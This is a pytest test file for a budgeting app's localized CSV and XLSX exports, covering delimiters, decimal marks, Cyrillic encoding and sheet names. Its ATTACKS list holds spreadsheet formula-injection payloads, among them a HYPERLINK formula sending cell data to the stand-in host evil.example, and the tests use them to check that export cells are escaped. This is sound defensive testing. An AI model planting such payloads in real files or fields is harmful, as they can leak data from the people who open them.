"""CSV and XLSX exports as a Kyrgyz, Russian or English reader's spreadsheet program opens them:
columns split at her Excel's separator, Cyrillic read as UTF-8, sheets named in her language,
and never a formula run from what residents typed."""

import csv
import io
import zipfile
from fractions import Fraction

import pytest

from pb.extensions import db
from pb.models import Ballot, Channel, Phase
from pb.results.counting import count_and_store
from pb.spreadsheets import csv_delimiter, to_csv
from tests import factories

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1+1)", "@cmd", "-2+3"]


@pytest.fixture
def counted(world):
    consultation = world.consultation
    proposals = factories.open_voting(consultation)
    for chosen in ((0, 1), (0, 1), (0, 2), (2, 3)):
        ballot = Ballot(consultation_id=consultation.id, channel=Channel.ONLINE)
        ballot.choices = {proposals[i].id: 1 for i in chosen}
        db.session.add(ballot)
    consultation.phase = Phase.CLOSED
    count_and_store(consultation)
    db.session.commit()
    return consultation, proposals


def _get_in(client, language, path):
    client.post("/language", data={"locale": language, "next": "/"})
    response = client.get(path)
    assert response.status_code == 200
    return response


def _rows(text, delimiter):
    assert text.startswith("\ufeff"), "without a byte order mark Excel garbles Cyrillic"
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


@pytest.mark.parametrize(("language", "delimiter"), [("ky", ";"), ("ru", ";"), ("en", ",")])
def test_csv_is_split_where_the_readers_excel_splits_it(language, delimiter):
    assert csv_delimiter(language) == delimiter
    text = to_csv([["Аты", "Саны", "Үлүшү"], ["Ак-Суу; Тоң", 1200, 0.25]], language)
    rows = _rows(text, delimiter)
    assert rows == [["Аты", "Саны", "Үлүшү"], ["Ак-Суу; Тоң", "1200", rows[1][2]]]
    assert len(rows[0]) == 3


def test_decimals_take_the_readers_decimal_mark():
    assert _rows(to_csv([[0.25, Fraction(1, 4)]], "ru"), ";") == [["0,25", "0,25"]]
    assert _rows(to_csv([[0.25, Fraction(1, 4)]], "en"), ",") == [["0.25", "0.25"]]


@pytest.mark.parametrize("language", ["ky", "ru", "en"])
def test_csv_cells_never_start_a_formula(language):
    rows = _rows(to_csv([ATTACKS, [-5, 3]], language), csv_delimiter(language))
    assert rows[0] == ["'" + attack for attack in ATTACKS]
    assert rows[1] == ["-5", "3"]  # numbers stay numbers


@pytest.mark.parametrize(("language", "delimiter"), [("ky", ";"), ("ru", ";"), ("en", ",")])
def test_the_results_csv_opens_as_columns_in_the_readers_language(
    council_client, counted, language, delimiter
):
    consultation, proposals = counted
    for proposal, title in zip(proposals, ATTACKS, strict=True):
        proposal.title = title
    db.session.commit()
    response = _get_in(council_client, language, f"/c/{consultation.id}/export/results.csv")
    rows = _rows(response.get_data(as_text=True), delimiter)
    assert len(rows) == 5 and all(len(row) == 9 for row in rows)
    assert {row[1] for row in rows[1:]} == {"'" + title for title in ATTACKS}
    assert all(row[4].isdigit() and row[5].isdigit() for row in rows[1:])
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_participation_csv_opens_as_columns_in_russian(council_client, counted):
    consultation, _proposals = counted
    response = _get_in(council_client, "ru", f"/c/{consultation.id}/export/participation.csv")
    rows = _rows(response.get_data(as_text=True), ";")
    assert rows[0][0] == "Кто" and rows[0][4] == "Доля"
    assert len(rows) > 1 and all(len(row) == 5 for row in rows)


@pytest.mark.parametrize(
    ("language", "what", "sheet"),
    [
        ("ky", "results", "Жыйынтыктар"),
        ("ru", "results", "Результаты"),
        ("en", "results", "Results"),
        ("ru", "participation", "Участие"),
        ("ky", "participation", "Катышуу"),
    ],
)
def test_xlsx_sheets_are_named_in_the_readers_language(
    council_client, counted, language, what, sheet
):
    consultation, _proposals = counted
    response = _get_in(council_client, language, f"/c/{consultation.id}/export/{what}.xlsx")
    with zipfile.ZipFile(io.BytesIO(response.data)) as book:
        workbook = book.read("xl/workbook.xml").decode()
    assert f'<sheet name="{sheet}"' in workbook
